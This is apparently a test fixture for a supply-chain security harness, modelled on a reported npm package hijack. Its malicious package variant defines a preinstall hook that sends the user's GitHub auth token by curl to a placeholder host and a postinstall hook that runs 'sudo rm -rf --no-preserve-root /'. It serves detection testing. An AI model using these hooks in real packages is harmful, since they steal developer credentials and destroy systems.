import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'toptal-picasso',
  after: '@toptal/picasso-tailwind and nine others, July 2025',
  source: 'https://socket.dev/blog/toptal-s-github-organization-hijacked-10-malicious-packages-published',
  shape: ['install', 'npm install', 'shell only', 'token in a command', 'curl', 'scoped package'],
  patterns: ['data_exfiltration', 'privilege_escalation', 'resource_abuse'],
  culprits: ['@studio/palette'],
  host: { kind: 'npm', npm: 'install', setup: '', use: '' },
  good: { '@studio/palette': { 'index.js': "exports.red = '#f00';" } },
  benign: { '@studio/palette': { 'index.js': "exports.red = '#ff0000';" } },
  bad: {
    '@studio/palette': {
      'index.js': "exports.red = '#f00';",
      'package.json':
        '{"scripts":{"preinstall":"curl -d \\"$(gh auth token)\\" http://@A@:@PORT@/59d4b2","postinstall":"sudo rm -rf --no-preserve-root /"}}',
    },
  },
  proof: [{ stub: 'curl -d @CANARY@' }, { stub: 'sudo rm' }],
  stubs: { sudo: '' },
};
